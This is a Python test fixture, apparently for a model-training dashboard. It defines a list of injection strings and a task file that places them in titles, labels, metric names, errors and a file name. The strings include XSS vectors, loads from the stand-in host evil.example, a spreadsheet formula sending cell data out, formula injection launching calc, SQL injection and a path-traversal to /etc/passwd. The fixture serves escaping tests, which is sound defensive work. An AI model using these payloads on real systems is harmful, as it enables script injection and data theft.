"""Texts that do harm where they are taken for anything but text, and a task that says them."""

from __future__ import annotations

_DO = "window.__pwned=1"
PAYLOADS = (
    f"<script>{_DO}</script>",
    f"<img src=x onerror={_DO}>",
    f"<svg onload={_DO}>",
    f'"><script>{_DO}</script>',
    f"'><img src=x onerror={_DO}>",
    f"</title><script>{_DO}</script>",
    f"</textarea><script>{_DO}</script>",
    f"</script><script>{_DO}</script>",
    f"<!--><script>{_DO}</script>-->",
    f"<iframe srcdoc='<script>parent.{_DO}</script>'></iframe>",
    f'<a href="javascript:{_DO}">here</a>',
    f"javascript:{_DO}",
    f'<b>bold</b><br><a href="javascript:{_DO}">Plotly draws these</a>',
    f"<details open ontoggle={_DO}>",
    f"<input autofocus onfocus={_DO}>",
    f"<math><mtext><style><img src=x onerror={_DO}></style></mtext></math>",
    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'><base href=//evil.example/>",
    f"&lt;img src=x onerror={_DO}&gt;",
    f"%3Cscript%3E{_DO}%3C/script%3E",
    "{{constructor.constructor('" + _DO + "')()}}${" + _DO + "}",
    "__proto__",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'; DROP TABLE runs; --",
    "../../../etc/passwd",
    "\u202egnp.exe \u2066\u200b\ufeff",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319A" * 6,
    "\U0001f43c" * 40,
    "W" * 250,
)

TASK = f"""
import torch
from torch import nn
from babysit.task import Data, Examples, Hyperparameter, Task, cross_entropy

PAYLOADS = {PAYLOADS!r}
calls = 0


def load():
    x = torch.linspace(-1, 1, 40).reshape(20, 2)
    y = torch.arange(20) % 2
    return Data(train=Examples(x, y), val=Examples(x, y))


def cost(output, y, values):
    global calls
    calls += 1
    if calls > 12:
        raise RuntimeError(values["payload"])
    return cross_entropy(output, y, values)


TASK = Task(
    title=PAYLOADS[1],
    summary=PAYLOADS[0],
    load=load,
    build=lambda values: nn.Linear(2, 2),
    cost=cost,
    hyperparameters=(
        Hyperparameter(
            name="payload",
            label=PAYLOADS[4],
            tier=2,
            default=PAYLOADS[0],
            kind="choice",
            choices=PAYLOADS,
            when="fork",
            help=PAYLOADS[3],
            unit=PAYLOADS[2],
            symbol=PAYLOADS[9],
        ),
    ),
    metrics={{text: (lambda output, y: output.mean() * 0) for text in PAYLOADS}},
    steps=1000,
    evaluate_every=5,
)
"""

# Files in the folder of tasks: one that cannot be imported, and one with a name like a tag.
BROKEN = f"raise RuntimeError({PAYLOADS[1]!r})"
FILE_NAME = "<img src=x onerror=window.__pwned=1>.py"
